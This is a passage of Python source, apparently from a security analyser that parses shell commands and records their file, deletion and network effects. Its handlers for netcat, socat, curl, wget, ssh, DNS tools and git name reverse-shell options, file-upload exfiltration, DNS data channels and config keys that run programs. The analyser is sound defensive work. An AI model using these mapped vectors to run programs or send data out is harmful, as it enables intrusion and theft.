    d.inner(opts.operands, call, cwd=(opts.values("-D", "--chdir") or [None])[-1])


def _su(d: _Describer, call: _Call) -> None:
    opts = d.options(call, "cCsgGw", ("--command", "--session-command", "--shell", "--group", "--supp-group"))
    commands = opts.values("-c", "--command", "--session-command", "-C")
    for word in commands:
        d.run_text(word, call)
    if not commands and len(opts.operands) > 1:
        d.opaque("su passes extra arguments to a shell")


def _env(d: _Describer, call: _Call) -> None:
    opts = d.options(
        call,
        "uCSP",
        ("--unset", "--chdir", "--split-string"),
        known=("--ignore-environment", "--null", "--debug"),
        stop=True,
    )
    words = list(opts.operands)
    for split in opts.values("-S", "--split-string"):
        if not split.literal:
            d.opaque(f"env -S splits non-literal text {_short(split.raw)}")
            return
        try:
            words = [Word.of(part) for part in shlex.split(split.value)] + words
        except ValueError:
            d.opaque(f"env -S text {_short(split.value)} could not be split")
            return
    d.inner(words, call, cwd=(opts.values("-C", "--chdir") or [None])[-1])


def _timeout(d: _Describer, call: _Call) -> None:
    opts = d.options(
        call, "sk", ("--signal", "--kill-after"), ("--preserve-status", "--foreground", "--verbose"), stop=True
    )
    d.inner(opts.operands[1:], call)  # the first operand is the duration


def _time(d: _Describer, call: _Call) -> None:
    opts = d.options(call, "fo", ("--format", "--output"), ("--append", "--portability", "--verbose"), stop=True)
    for word in opts.values("-o", "--output"):
        d.write(word, call)
    d.inner(opts.operands, call)


def _command_builtin(d: _Describer, call: _Call) -> None:
    opts = d.options(call, stop=True)
    if opts.has("-v", "-V"):
        return  # only looks the name up
    d.inner(opts.operands, call)


def _exec(d: _Describer, call: _Call) -> None:
    opts = d.options(call, "a", stop=True)
    if not opts.operands:
        if call.redirects:
            d.opaque("exec with only redirections changes the shell's own file descriptors")
        return
    d.inner(opts.operands, call)


def _ionice(d: _Describer, call: _Call) -> None:
    opts = d.options(call, "cnpPu", ("--class", "--classdata", "--pid", "--pgid", "--uid"), stop=True)
    if not opts.values("-p", "-P", "-u", "--pid", "--pgid", "--uid"):
        d.inner(opts.operands, call)


def _xargs(d: _Describer, call: _Call) -> None:
    opts = d.options(
        call,
        "EIdLnPsa",
        ("--eof", "--replace", "--delimiter", "--max-lines", "--max-args", "--max-procs", "--max-chars")
        + ("--arg-file", "--process-slot-var"),
        known=("--null", "--no-run-if-empty", "--verbose", "--interactive", "--exit", "--open-tty"),
        optional="eil",
        stop=True,
    )
    for word in opts.values("-a", "--arg-file"):
        d.read(word, call)
    marker = Word(
        value="{xargs input}",
        raw="{xargs input}",
        literal=False,
        why="comes from xargs input",
        tainted=call.ctx.stdin_tainted,
    )
    inner = list(opts.operands) or [Word.of("echo")]
    replace_str = [w.value for w in opts.values("-I", "--replace")]
    if opts.has("-i") or any(name == "--replace" for name, _ in opts.flags):
        replace_str.append("{}")
    if replace_str:
        inner = [marker if any(r and r in w.value for r in replace_str) else w for w in inner]
    else:
        inner.append(marker)
    # the inner command's stdin is not xargs' input
    call = replace(call, ctx=replace(call.ctx, stdin="inherit", stdin_text=None, stdin_tainted=False))
    d.inner(inner, call)


_FIND_TESTS_WITH_ARG = frozenset(
    (
        "-name -iname -path -ipath -wholename -iwholename -regex -iregex -type -xtype -size -perm -user -group -uid "
        "-gid -mtime -mmin -atime -amin -ctime -cmin -newer -anewer -cnewer -maxdepth -mindepth -links -inum "
        "-samefile -used -lname -ilname -fstype -context -regextype -printf -files0-from"
    ).split()
)
_FIND_EXEC = frozenset({"-exec", "-execdir", "-ok", "-okdir"})
_FIND_WRITES = frozenset({"-fprint", "-fprint0", "-fls", "-fprintf"})


def _find(d: _Describer, call: _Call) -> None:
    args = call.args
    i = 0
    while i < len(args) and (args[i].value in ("-H", "-L", "-P") or args[i].value.startswith("-O")):
        i += 1
    roots: list[Word] = []
    while i < len(args) and not args[i].value.startswith("-") and args[i].value not in ("(", "!", ")", ","):
        roots.append(args[i])
        i += 1
    roots = roots or [Word.of(".")]
    for root in roots:
        d.read(root, call)
    expr = args[i:]
    j = 0
    while j < len(expr):
        word = expr[j]
        value = word.value
        if not word.literal:
            d.opaque(f"find: expression word {_short(word.raw)} is not literal ({word.why})")
        elif value == "-delete":
            for root in roots:
                d.delete(root, call, recursive=True)
        elif value in _FIND_EXEC:
            end = j + 1
            while end < len(expr) and not (expr[end].literal and expr[end].value in (";", "+")):
                end += 1
            for root in roots:
                _find_exec(d, call, expr[j + 1 : end], root)
            j = end
        elif value in _FIND_WRITES:
            if j + 1 < len(expr):
                d.write(expr[j + 1], call)
            j += 2 if value == "-fprintf" else 1
        elif value.startswith("-newer") or value in _FIND_TESTS_WITH_ARG:
            j += 1
        j += 1


def _find_exec(d: _Describer, call: _Call, words: list[Word], root: Word) -> None:
    """find -exec CMD {} ;: ``{}`` stands for every file under the root (a glob of the root)."""
    inner = [
        replace(w, value=w.value.replace("{}", root.value), glob=True, literal=w.literal and root.literal)
        if "{}" in w.value
        else w
        for w in words
    ]
    d.inner(inner, call)


def _watch(d: _Describer, call: _Call) -> None:
    opts = d.options(call, "nq", ("--interval", "--equexit"), known=("--exec",), optional="d", stop=True)
    if opts.has("-x", "--exec"):
        d.inner(opts.operands, call)
    elif opts.operands:
        joined = " ".join(w.value for w in opts.operands)
        literal = all(w.literal for w in opts.operands)
        d.run_text(Word(value=joined, raw=joined, literal=literal, why="non-literal words"), call)


def _busybox(d: _Describer, call: _Call) -> None:
    if call.args and not call.args[0].value.startswith("-"):
        d.inner(call.args, call)


def _eval(d: _Describer, call: _Call) -> None:
    words = call.args
    text = " ".join(w.value for w in words)
    literal = all(w.literal for w in words)
    why = "; ".join(w.why for w in words if w.why)
    d.run_text(Word(value=text, raw=text, literal=literal, why=why, tainted=any(w.tainted for w in words)), call)


def _source(d: _Describer, call: _Call) -> None:
    operands = [w for w in call.args if w.value != "--"]
    if not operands:
        return
    script = operands[0]
    if script.tainted or d._is_tainted(script):
        d.opaque(f"downloaded/decoded content executed: {call.name} {_short(script.raw)}")
    else:
        d.opaque(f"{call.name} runs the commands in {_short(script.raw)}, which are not analysed")
    if script.literal:
        d.read(script, call)


def _alias(d: _Describer, call: _Call) -> None:
    if any("=" in w.value or not w.literal for w in call.args):
        d.opaque("alias defines a command name")


def _trap(d: _Describer, call: _Call) -> None:
    operands = [w for w in call.args if w.value not in ("-p", "-l", "--")]
    if len(operands) >= 2 and not (operands[0].literal and operands[0].value in ("", "-")):
        d.opaque(f"trap installs a command to run later: {_short(operands[0].raw)}")


def _hash(d: _Describer, call: _Call) -> None:
    if any(w.value.startswith("-p") for w in call.args):
        d.opaque("hash -p maps a command name to another program")


def _let(d: _Describer, call: _Call) -> None:
    if any(_has_unparsed_subst(w.value) or not w.literal for w in call.args):
        d.opaque("let evaluates text that may hold command substitutions")


def _cd(d: _Describer, call: _Call) -> None:
    operands = [w for w in call.args if w.value not in ("-L", "-P", "-e", "-@", "--")]
    if call.name == "popd" or (operands and operands[0].value.startswith(("+", "-"))):
        d.cwd = None  # the directory stack is not tracked
        return
    target = operands[0] if operands else Word.of(d.home)
    if not target.literal or target.glob:
        d.cwd = None
        return
    path = d.locate(target, call.name) if (target.value.startswith("/") or d.cwd is not None) else None
    # a cd that fails leaves the shell where it was, so only a directory we can see (or made) is followed
    d.cwd = path if path is not None and (path.is_dir() or path in d.made_dirs) else None


# --------------------------------------------------------------------------------------------------
# Handlers: interpreters
# --------------------------------------------------------------------------------------------------


def _shell(d: _Describer, call: _Call) -> None:
    """sh/bash/zsh...: -c STRING is re-parsed; a script is read; otherwise the program comes from stdin."""
    args = call.args
    command_mode = stdin_mode = False
    i = 0
    while i < len(args):
        word = args[i]
        value = word.value
        if not word.literal and value.startswith(("-", "+")):
            d.opaque(f"{call.name}: option {_short(word.raw)} is not literal")
        elif value in ("--", "-"):
            i += 1
            break
        elif value in ("-o", "+o", "-O", "+O"):
            i += 1
        elif value in ("--rcfile", "--init-file"):
            if i + 1 < len(args):
                d.script(args[i + 1], call)
            i += 1
        elif value.startswith("--"):
            pass
        elif value.startswith(("-", "+")) and len(value) > 1:
            command_mode = command_mode or (value[0] == "-" and "c" in value)
            stdin_mode = stdin_mode or (value[0] == "-" and "s" in value)
        else:
            break
        i += 1
    operands = args[i:]
    if command_mode:
        if operands:
            d.run_text(operands[0], call)
        else:
            d.opaque(f"{call.name} -c without a command string")
    elif operands and not stdin_mode:
        d.script(operands[0], call)
    else:
        text = d.stdin_program(call)
        if text is not None:
            d.run_text(Word.of(text), call, via="heredoc")


def _python(d: _Describer, call: _Call) -> None:
    args = call.args
    i = 0
    while i < len(args):
        word = args[i]
        value = word.value
        if not word.literal and value.startswith("-"):
            d.opaque(f"{call.name}: option {_short(word.raw)} is not literal")
            i += 1
            continue
        if value == "-":
            d.stdin_program(call)
            return
        if not value.startswith("-"):
            d.script(word, call)
            return
        if value == "--check-hash-based-pycs":
            i += 2
            continue
        if value.startswith("--"):
            i += 1
            continue
        for j in range(1, len(value)):
            letter = value[j]
            if letter in "cm":
                arg = word.tail(j + 1) if j + 1 < len(value) else (args[i + 1] if i + 1 < len(args) else None)
                rest = args[i + 1 :] if j + 1 < len(value) else args[i + 2 :]
                if letter == "c":
                    d.inline_code(arg, call)
                elif arg is not None:
                    _python_module(d, call, arg, rest)
                return
            if letter in "WX":
                i += 0 if j + 1 < len(value) else 1
                break
        i += 1
    d.stdin_program(call)


def _python_module(d: _Describer, call: _Call, module: Word, rest: list[Word]) -> None:
    name = module.value
    if not module.literal:
        d.opaque(f"{call.name} -m runs a non-literal module {_short(module.raw)}")
    elif name == "pip":
        _pip_command(d, call, rest, runner=call.words[0])
    elif name in ("venv", "virtualenv"):
        for word in d.options(call, "p", ("--prompt", "--python"), args=rest).operands:
            d.write(word, call)


def _interpreter(code_letters: str, arg_letters: str, inplace: bool = False) -> Handler:
    """node/perl/ruby/php: inline code (-e) is a fact, a script is read, -i edits files in place."""

    def handler(d: _Describer, call: _Call) -> None:
        args = call.args
        has_code = edit = line_mode = False
        i = 0
        while i < len(args):
            word = args[i]
            value = word.value
            if value == "--":
                i += 1
                break
            if not value.startswith("-") or value == "-":
                break
            if not word.literal:
                d.opaque(f"{call.name}: option {_short(word.raw)} is not literal")
                i += 1
                continue
            used, code, edits, lines = _interpreter_cluster(word, args, i, code_letters, arg_letters, inplace)
            if code is not None or used < 0:
                has_code = True
                d.inline_code(code, call)
            edit, line_mode = edit or edits, line_mode or lines
            i += abs(used)
        operands = args[i:]
        if not has_code:
            if operands and operands[0].value != "-":
                d.script(operands[0], call)
                operands = operands[1:]
            else:
                d.stdin_program(call)
                return
        for word in operands if line_mode else []:
            if edit:
                d.write(word, call, modify=True)
            else:
                d.read(word, call)

    return handler


def _interpreter_cluster(
    word: Word, args: list[Word], i: int, code_letters: str, arg_letters: str, inplace: bool
) -> tuple[int, Word | None, bool, bool]:
    """One option word of perl/ruby/node/php: (words used, negative if code is missing; code; -i; -n/-p)."""
    value = word.value
    if value.startswith("--"):
        name, eq, _ = value.partition("=")
        if name in ("--eval", "--print"):
            code = word.tail(len(name) + 1) if eq else (args[i + 1] if i + 1 < len(args) else None)
            return (1 if eq else 2), code, False, False
        takes = name in ("--require", "--import", "--loader", "--experimental-loader", "--input-type") and not eq
        return (2 if takes else 1), None, False, False
    edit = lines = False
    for j in range(1, len(value)):
        letter = value[j]
        if letter in code_letters:
            if j + 1 < len(value):
                return 1, word.tail(j + 1), edit, lines
            code = args[i + 1] if i + 1 < len(args) else None
            return (2 if code is not None else -1), code, edit, lines
        if letter == "i" and inplace:
            return 1, None, True, lines
        if letter in "np":
            lines = True
        if letter in arg_letters:
            return (1 if j + 1 < len(value) else 2), None, edit, lines
    return 1, None, edit, lines


# --------------------------------------------------------------------------------------------------
# Handlers: network clients
# --------------------------------------------------------------------------------------------------

_CURL_SHORT = "AbcCdDeEFHKmoPQrtTuUwxXyYz"
_CURL_LONG = (
    "--url --output --data --data-raw --data-binary --data-ascii --data-urlencode --json --form --form-string "
    "--header --user --user-agent --referer --cookie --cookie-jar --request --upload-file --config --proxy "
    "--proxy-user --max-time --connect-timeout --retry --retry-delay --retry-max-time --range --write-out "
    "--dump-header --cert --key --cacert --capath --output-dir --resolve --connect-to --interface --limit-rate "
    "--max-filesize --oauth2-bearer --trace --trace-ascii --stderr --unix-socket --abstract-unix-socket --doh-url "
    "--dns-servers --preproxy --socks4 --socks4a --socks5 --socks5-hostname --proto --proto-redir --variable "
    "--etag-save --etag-compare --hsts --alt-svc --netrc-file --aws-sigv4 --ciphers --local-port --continue-at "
    "--speed-time --speed-limit --time-cond --telnet-option --quote --ftp-port --mail-from --mail-rcpt "
    "--max-redirs --parallel-max --expect100-timeout --keepalive-time --pinnedpubkey --tls-max"
).split()


def _curl(d: _Describer, call: _Call) -> None:
    opts = d.options(call, _CURL_SHORT, _CURL_LONG, known=("--remote-name", "--next"))
    urls = [*opts.operands, *opts.values("--url")]
    for word in urls:
        d.url(word, call)
    for word in opts.values("-o", "--output", "-c", "--cookie-jar", "-D", "--dump-header", "--trace", "--trace-ascii"):
        d.write(word, call)
    for word in opts.values("--stderr", "--etag-save"):
        d.write(word, call)
    if opts.has("-O", "--remote-name"):
        for word in urls:
            name = word.value.split("?", 1)[0].rstrip("/").rsplit("/", 1)[-1]
            if word.literal and name and "://" not in name:
                d.write(Word.of(name), call)
    for word in opts.values("-T", "--upload-file", "--netrc-file"):
        d.read(word, call)
    for word in opts.values("-d", "--data", "--data-binary", "--data-ascii", "--data-urlencode", "--json"):
        _at_file(d, call, word)
    for word in opts.values("-F", "--form"):
        _at_file(d, call, word, form=True)
    for word in opts.values("-K", "--config"):
        d.read(word, call)
        d.opaque(f"curl config file {_short(word.raw)} may name more URLs and options")
    for word in opts.values("-x", "--proxy", "--preproxy", "--socks4", "--socks4a", "--socks5", "--socks5-hostname"):
        d.url(word, call)
    if opts.values("--resolve", "--connect-to", "--dns-servers", "--doh-url"):
        d.opaque("curl remaps host names (--resolve/--connect-to/--dns-servers/--doh-url)")
    if any(name.startswith("--expand-") for name, _ in opts.flags) or opts.values("--variable"):
        d.opaque("curl variable expansion may read files or the environment")


def _at_file(d: _Describer, call: _Call, word: Word, form: bool = False) -> None:
    """curl -d @file / -F name=@file / -F name=<file: the file is read (and sent)."""
    value = word.value
    if form:
        _, _, value = value.partition("=")
    if value.startswith(("@", "<")) and value[1:] not in ("-", ""):
        d.read(replace(word, value=value[1:].split(";", 1)[0]), call)


_WGET_SHORT = "OoaPiBetTwQUlARDXIY"
_WGET_LONG = (
    "--output-document --output-file --append-output --directory-prefix --input-file --base --execute --tries "
    "--timeout --wait --quota --user-agent --level --accept --reject --domains --exclude-directories "
    "--include-directories --header --post-data --post-file --body-data --body-file --method --user --password "
    "--http-user --http-password --load-cookies --save-cookies --ca-certificate --certificate --private-key "
    "--bind-address --limit-rate --referer --config --proxy-user --proxy-password --default-page --progress"
).split()


def _wget(d: _Describer, call: _Call) -> None:
    opts = d.options(call, _WGET_SHORT, _WGET_LONG, known=("--recursive", "--mirror"))
    for word in opts.operands:
        d.url(word, call)
    outputs = opts.values("-O", "--output-document")
    for word in outputs + opts.values("-o", "--output-file", "-a", "--append-output", "--save-cookies"):
        d.write(word, call)
    for word in opts.values("-i", "--input-file"):
        d.read(word, call)
        d.opaque(f"wget reads the URLs to fetch from {_short(word.raw)}")
    for word in opts.values("--post-file", "--body-file", "--load-cookies"):
        d.read(word, call)
    for word in opts.values("--config"):
        d.read(word, call)
        d.opaque("wget --config may name more URLs and options")
    prefix = (opts.values("-P", "--directory-prefix") or [Word.of(".")])[-1]
    if opts.has("-r", "--recursive", "-m", "--mirror"):
        d.write(prefix, call, modify=True)
    elif not outputs:
        for word in opts.operands:
            name = word.value.split("?", 1)[0].split("://", 1)[-1].rstrip("/").rsplit("/", 1)
            if word.literal:
                d.write(_join(prefix, Word.of(name[1] if len(name) == 2 and name[1] else "index.html")), call)


def _httpie(d: _Describer, call: _Call) -> None:
    opts = d.options(
        call,
        "aAospv",
        ("--auth", "--auth-type", "--output", "--session", "--session-read-only", "--proxy", "--cert", "--cert-key")
        + ("--verify", "--timeout", "--max-redirects", "--style", "--print", "--pretty", "--format-options"),
    )
    operands = list(opts.operands)
    if operands and re.match(r"^[A-Z]+$", operands[0].value):
        operands.pop(0)  # the method
    if operands:
        url = operands.pop(0)
        if url.literal and url.value.startswith(":"):
            url = replace(url, value="localhost" + url.value)
        scheme = "https" if call.name in ("https", "xhs") else "http"
        d.url(url, call, default_scheme=scheme)
    for item in operands:
        match = re.match(r"^[^=:@]*(?:=@|:=@|@)(.+)$", item.value)
        if match:
            d.read(replace(item, value=match.group(1)), call)
    for word in opts.values("-o", "--output", "--session"):
        d.write(word, call)
    for word in opts.values("--proxy"):
        d.url(Word.of(word.value.split(":", 1)[-1]) if "://" not in word.value else word, call)


_SSH_SHORT = "BbcDEeFIiJLlmOoPpQRSWw"


def _ssh_options(d: _Describer, call: _Call, opts: _Opts) -> None:
    """Options shared by ssh, scp and sftp: keys read, jump hosts contacted, commands run locally."""
    for word in opts.values("-i"):
        d.read(word, call)
    for word in opts.values("-F"):
        d.read(word, call)
        d.opaque(f"{call.name} -F config file may run local commands (ProxyCommand)")
    for word in opts.values("-J"):
        for hop in word.value.split(","):
            d.host_word(replace(word, value=hop.split(":", 1)[0]), call)
    for word in opts.values("-o"):
        key, _, value = word.value.replace(" ", "=", 1).partition("=")
        key = key.lower()
        if key in ("proxycommand", "localcommand", "permitlocalcommand", "knownhostscommand", "match"):
            d.opaque(f"{call.name} -o {key} runs a local command")
        elif key == "proxyjump":
            d.host_word(replace(word, value=value.split(":", 1)[0]), call)
    for word in opts.values("-S") if call.name != "ssh" else []:
        d.opaque(f"{call.name} -S runs the program {_short(word.raw)}")
    for word in opts.values("-E"):
        d.write(word, call)


def _ssh(d: _Describer, call: _Call) -> None:
    opts = d.options(call, _SSH_SHORT, stop=True)
    _ssh_options(d, call, opts)
    for word in opts.values("-W"):
        d.host_word(replace(word, value=word.value.rsplit(":", 1)[0]), call)
    if opts.operands:
        d.host_word(opts.operands[0], call)


def _scp(d: _Describer, call: _Call) -> None:
    opts = d.options(call, "cFiJloPSD")
    _ssh_options(d, call, opts)
    operands = opts.operands
    for i, word in enumerate(operands):
        if d.remote(word, call):
            continue
        if i == len(operands) - 1 and len(operands) > 1:
            d.write(word, call)
        else:
            d.read(word, call)


def _sftp(d: _Describer, call: _Call) -> None:
    opts = d.options(call, "BbcDFiJloPRsS")
    _ssh_options(d, call, opts)
    for word in opts.values("-b"):
        d.read(word, call)
        d.opaque("sftp -b batch file may transfer files and run local commands")
    if opts.values("-s", "-D"):
        d.opaque("sftp -s/-D runs another server program")
    if opts.operands:
        target = opts.operands[0]
        d.host_word(replace(target, value=target.value.split(":", 1)[0]) if "://" not in target.value else target, call)
    if call.ctx.stdin in ("pipe", "heredoc", "herestring", "socket"):
        d.opaque(f"{call.name} reads commands (which may run local programs) from stdin")


_RSYNC_SHORT = "efTBM@"
_RSYNC_LONG = (
    "--rsh --filter --exclude --include --exclude-from --include-from --files-from --temp-dir --backup-dir --suffix "
    "--chmod --chown --block-size --bwlimit --timeout --contimeout --port --log-file --password-file --partial-dir "
    "--compare-dest --copy-dest --link-dest --max-size --min-size --max-delete --modify-window --out-format "
    "--rsync-path --iconv --protocol --checksum-choice --compress-choice --compress-level --skip-compress --usermap "
    "--groupmap --info --debug --sockopts --outbuf --stop-after --stop-at --address --remote-option"
).split()


def _rsync(d: _Describer, call: _Call) -> None:
    opts = d.options(call, _RSYNC_SHORT, _RSYNC_LONG, known=("--delete", "--remove-source-files", "--recursive"))
    for word in opts.values("-e", "--rsh"):
        first = word.value.split()[0] if word.literal and word.value.split() else ""
        if _program(first) != "ssh":
            d.opaque(f"rsync -e runs {_short(word.raw)}")
    for word in opts.values("--exclude-from", "--include-from", "--files-from", "--password-file"):
        d.read(word, call)
    for word in opts.values("--log-file"):
        d.write(word, call)
    operands = list(opts.operands)
    dest = operands.pop() if len(operands) > 1 else None
    deleting = any(name.startswith("--delete") for name, _ in opts.flags)
    for word in operands:
        if not d.remote(word, call):
            d.read(word, call)
            if opts.has("--remove-source-files"):
                d.delete(word, call, recursive=True)
    if dest is not None and not d.remote(dest, call):
        d.write(dest, call)
        if deleting:
            d.delete(dest, call, recursive=True)


def _netcat(d: _Describer, call: _Call) -> None:
    opts = d.options(
        call,
        "pswiqxXOPITVecmgG",
        ("--exec", "--sh-exec", "--lua-exec", "--proxy", "--proxy-type", "--proxy-auth", "--source", "--source-port")
        + ("--wait", "--idle-timeout", "--max-conns", "--allow", "--deny", "--allowfile", "--denyfile", "--output"),
        known=("--listen", "--keep-open", "--udp", "--unixsock"),
    )
    if opts.values("-e", "-c", "--exec", "--sh-exec", "--lua-exec"):
        d.opaque(f"{call.name} runs a program for the connection")
    for word in opts.values("-x", "--proxy"):
        d.host_word(replace(word, value=word.value.rsplit(":", 1)[0]), call)
    for word in opts.values("--output"):
        d.write(word, call)
    if opts.has("-l", "--listen"):
        port = (opts.values("-p") or opts.operands[-1:] or [Word.of("?")])[-1]
        d.network.append(NetworkEffect(host=f"listen:{port.value}", via=call.name))
    elif opts.operands:
        d.host_word(opts.operands[0], call)


def _first_host(short: str = "", long: Iterable[str] = ()) -> Handler:
    """telnet, ping, traceroute, ftp, whois: the first operand is the host."""
    long = tuple(long)

    def handler(d: _Describer, call: _Call) -> None:
        opts = d.options(call, short, long)
        if opts.operands:
            d.host_word(opts.operands[0], call)
        for word in opts.values("-h") if call.name == "whois" else []:
            d.host_word(word, call)
        if call.name in ("ftp", "lftp", "tftp") and call.ctx.stdin in ("pipe", "heredoc", "herestring"):
            d.opaque(f"{call.name} reads commands (which may run local programs) from stdin")
        for word in opts.values("-e", "-c", "-f") if call.name == "lftp" else []:
            d.opaque(f"lftp runs the command text {_short(word.raw)}")

    return handler


_DNS_WORDS = frozenset("a aaaa any mx ns txt soa cname ptr srv caa in ch hs axfr ixfr".split())


def _dns(d: _Describer, call: _Call) -> None:
    """dig/nslookup/host: the resolver (@server) and the name asked about (names can carry data out)."""
    opts = d.options(call, "bcfkpqtxyWRi" if call.name == "dig" else "tcWRNm")
    for word in opts.values("-f", "-k"):
        d.read(word, call)
    for word in opts.values("-q", "-x"):
        d.host_word(word, call)
    for word in opts.operands:
        value = word.value
        if value.startswith("+") or value.lower() in _DNS_WORDS:
            continue
        d.host_word(replace(word, value=value.lstrip("@")), call)


def _socat(d: _Describer, call: _Call) -> None:
    opts = d.options(call, "TtbL")
    for word in opts.operands:
        if not word.literal:
            d.opaque(f"socat address {_short(word.raw)} is not literal")
            continue
        kind, _, rest = word.value.partition(":")
        kind = kind.upper().split(",")[0]
        fields = rest.split(",")[0].split(":")
        if kind in ("EXEC", "SYSTEM"):
            d.opaque(f"socat {kind} runs a program")
        elif kind.endswith("-LISTEN") or kind.endswith("-L"):
            d.network.append(NetworkEffect(host=f"listen:{fields[0]}", via="socat"))
        elif kind in ("TCP", "TCP4", "TCP6", "UDP", "UDP4", "UDP6", "SCTP", "OPENSSL", "SSL", "SOCKS4", "SOCKS4A"):
            d.host_word(Word.of(fields[0]), call)
        elif kind in ("PROXY",):
            d.host_word(Word.of(fields[0]), call)
        elif kind in ("FILE", "OPEN", "CREATE", "GOPEN", "CREAT"):
            d.write(Word.of(fields[0]), call, modify=True)
        elif kind not in ("STDIO", "STDIN", "STDOUT", "STDERR", "-", "PIPE"):
            d.opaque(f"socat address type {kind!r} is not analysed")


# --------------------------------------------------------------------------------------------------
# Handlers: git
# --------------------------------------------------------------------------------------------------

# `git -c` / `git config` keys whose values are harmless; every other key may name a program to run.
_GIT_SAFE_KEYS = (
    "user.",
    "color.",
    "advice.",
    "init.defaultbranch",
    "core.quotepath",
    "core.autocrlf",
    "core.safecrlf",
    "core.filemode",
    "core.ignorecase",
    "commit.gpgsign",
    "tag.gpgsign",
    "pull.rebase",
    "pull.ff",
    "merge.ff",
    "push.default",
    "push.autosetupremote",
    "fetch.prune",
    "log.",
    "status.",
    "column.",
    "i18n.",
    "safe.directory",
    "gc.auto",
    "maintenance.auto",
    "rebase.autosquash",
    "rebase.autostash",
    "diff.renames",
    "branch.autosetuprebase",
    "http.sslverify",
)
_GIT_WORKTREE = frozenset({"checkout", "switch", "restore", "merge", "rebase", "cherry-pick", "revert", "am", "stash"})


def _git(d: _Describer, call: _Call) -> None:
    args = call.args
    cwd: Word | None = None
    i = 0
    while i < len(args):
        word = args[i]
        value = word.value
        if not word.literal:
            d.opaque(f"git: {_short(word.raw)} is not literal ({word.why})")
            return
        if value == "-C" and i + 1 < len(args):
            cwd = args[i + 1]
            i += 2
            continue
        if value == "-c" and i + 1 < len(args):
            _git_config_key(d, args[i + 1])
            i += 2
            continue
        if value.startswith(("--exec-path=", "--config-env")):
            d.opaque(f"git {value.split('=')[0]} changes which programs git runs")
        elif value in ("--git-dir", "--work-tree", "--namespace", "--super-prefix", "--list-cmds"):
            i += 1
        elif not value.startswith("-"):
            break
        i += 1
    if i >= len(args):
        return
    sub = args[i].value
    rest = args[i + 1 :]
    with d.chdir(cwd, call):
        _git_subcommand(d, call, sub, rest)


def _git_config_key(d: _Describer, word: Word) -> None:
    key = word.value.split("=", 1)[0].lower()
    if not word.literal or not key.startswith(_GIT_SAFE_KEYS):
        d.opaque(f"git config {_short(key)} may make git run a program")


def _git_subcommand(d: _Describer, call: _Call, sub: str, rest: list[Word]) -> None:
    if sub in ("push", "fetch", "pull", "ls-remote", "clone"):
        _git_network(d, call, sub, rest)
    if sub in ("pull", *_GIT_WORKTREE) or (sub == "apply" and not _git_apply_check(rest)):
        _git_worktree(d, call, sub, rest)
    handler = _GIT_SUBCOMMANDS.get(sub)
    if handler is not None:
        handler(d, call, rest)


def _git_network(d: _Describer, call: _Call, sub: str, rest: list[Word]) -> None:
    opts = d.options(
        call,
        "ojsXbuc",
        ("--upload-pack", "--receive-pack", "--exec", "--depth", "--deepen", "--shallow-since", "--shallow-exclude")
        + ("--refmap", "--server-option", "--push-option", "--negotiation-tip", "--strategy", "--strategy-option")
        + ("--repo", "--jobs", "--filter", "--origin", "--branch", "--reference", "--separate-git-dir", "--template")
        + ("--config", "--bundle-uri"),
        args=rest,
    )
    if opts.values("--upload-pack", "--receive-pack", "--exec") or (sub == "clone" and opts.values("-u")):
        d.opaque(f"git {sub} --upload-pack/--receive-pack runs a program")
    if opts.values("--template"):
        d.opaque("git clone --template installs hooks that run during the clone")
    for word in opts.values("-c", "--config") if sub == "clone" else []:
        _git_config_key(d, word)
    operands = opts.operands
    git_call = replace(call, name="git")
    if sub == "clone":
        if operands:
            _git_url(d, git_call, operands[0], reading=True)
            name = operands[0].value.rstrip("/").rsplit("/", 1)[-1].rsplit(":", 1)[-1].removesuffix(".git")
            dest = operands[1] if len(operands) > 1 else Word.of(name or "repo")
            d.write(dest, call)
        return
    remote = operands[0] if operands else None
    if remote is None:
        d.network.append(NetworkEffect(host="git-remote:default", via="git"))
    elif _git_is_url(remote):
        _git_url(d, git_call, remote, reading=sub != "push")
    elif remote.literal and (remote.value.startswith(("/", ".", "~")) or d.is_dir(remote)):
        if sub == "push":
            d.write(remote, call, modify=True)
        else:
            d.read(remote, call)
    elif not remote.literal:
        d.opaque(f"git {sub}: remote {_short(remote.raw)} is not literal")
    else:
        d.network.append(NetworkEffect(host=f"git-remote:{remote.value}", via="git"))


def _git_is_url(word: Word) -> bool:
    value = word.value
    return "://" in value or "::" in value or bool(re.match(r"^[^/:]+@[^/:]+:|^[^/:]+\.[^/:]+:", value))


def _git_url(d: _Describer, call: _Call, word: Word, reading: bool) -> None:
    if not word.literal:
        d.opaque(f"git: URL {_short(word.raw)} is not literal")
        return
    value = word.value
    if "::" in value and "://" not in value.split("::", 1)[0]:
        d.opaque(f"git remote helper {_short(value)} runs a program")
        return
    if "://" in value or _git_is_url(word):
        d.url(word, call, default_scheme=None)
    elif reading:
        d.read(word, call)
    else:
        d.write(word, call, modify=True)


def _git_apply_check(rest: list[Word]) -> bool:
    return any(w.value in ("--check", "--stat", "--numstat", "--summary") for w in rest)


def _git_worktree(d: _Describer, call: _Call, sub: str, rest: list[Word]) -> None:
    """Subcommands that rewrite files in the working tree: the paths given, or the whole tree (cwd)."""
    values = [w.value for w in rest]
    if sub == "stash" and values[:1] in (["list"], ["show"]):
        return
    if "--" in values:
        for word in rest[values.index("--") + 1 :]:
            d.write(word, call, modify=True)
        return
    if sub == "restore":
        paths = [w for w in rest if not w.value.startswith("-")]
        if paths and not ("--staged" in values and "--worktree" not in values):
            for word in paths:
                d.write(word, call, modify=True)
            return
    d.write(Word.of("."), call, modify=True)


def _git_reset(d: _Describer, call: _Call, rest: list[Word]) -> None:
    if any(w.value in ("--hard", "--merge", "--keep") for w in rest):
        d.write(Word.of("."), call, modify=True)


def _git_clean(d: _Describer, call: _Call, rest: list[Word]) -> None:
    opts = d.options(call, "e", ("--exclude",), args=rest)
    if opts.has("-n", "--dry-run"):
        return
    for word in opts.operands or [Word.of(".")]:
        d.delete(word, call, recursive=True)


def _git_rm(d: _Describer, call: _Call, rest: list[Word]) -> None:
    opts = d.options(call, "", ("--pathspec-from-file",), args=rest)
    if opts.has("--cached") or opts.has("-n", "--dry-run"):
        return
    for word in opts.operands:
        d.delete(word, call, recursive=opts.has("-r"))


def _git_mv(d: _Describer, call: _Call, rest: list[Word]) -> None:
    opts = d.options(call, args=rest)
    operands = list(opts.operands)
    if len(operands) < 2:
        return
    dest = operands.pop()
    for word in operands:
        d.delete(word, call, recursive=d.is_dir(word))
    _destinations(d, call, operands, None, dest, no_dir=False)


def _git_config(d: _Describer, call: _Call, rest: list[Word]) -> None:
    opts = d.options(call, "f", ("--file", "--type", "--default", "--blob"), args=rest)
    operands = opts.operands
